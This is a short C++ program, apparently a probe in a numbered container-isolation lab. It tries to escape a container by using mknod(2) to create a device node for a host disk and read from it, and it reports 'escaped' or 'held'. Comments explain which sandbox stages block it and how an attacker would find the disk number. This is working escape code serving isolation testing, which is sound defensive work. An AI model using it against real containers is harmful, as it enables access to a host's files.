// Reads a disk of the host: a device node is no more than a type and a number, and mknod(2) makes one
// anywhere. Works in 01 to 08. 09 closes it: mknod(2) asks for CAP_MKNOD in the first user namespace.
// So does 10 without one: there the device cgroup refuses to open what mknod(2) may make.
//
//   /escape MAJOR:MINOR     prints how that block device begins; exit status 0: escaped, 1: held
//
// An attacker finds the number of the disk below / in /proc/self/mountinfo or /proc/partitions. He
// reads every file of the host through it, and writes them, too; this one only reads.

#include <fcntl.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#include <cstdio>

int main(int argc, char** argv) {
  unsigned int major_number = 0;
  unsigned int minor_number = 0;
  if (argc != 2 || std::sscanf(argv[1], "%u:%u", &major_number, &minor_number) != 2) {
    std::fputs("usage: /escape MAJOR:MINOR\n", stderr);
    return 1;
  }

  const char* node = "/lab-escape-disk";
  if (mknod(node, S_IFBLK | 0600, makedev(major_number, minor_number)) == -1) {
    std::perror("held: mknod");
    return 1;
  }
  const int fd = open(node, O_RDONLY);
  if (fd == -1) std::perror("held: open of the device node");
  unlink(node);
  if (fd == -1) return 1;

  char text[128] = "";
  if (read(fd, text, sizeof text - 1) == -1) {
    std::perror("held: read of the disk");
    return 1;
  }
  std::printf("escaped: a disk of the host begins with: %s", text);
  return 0;
}
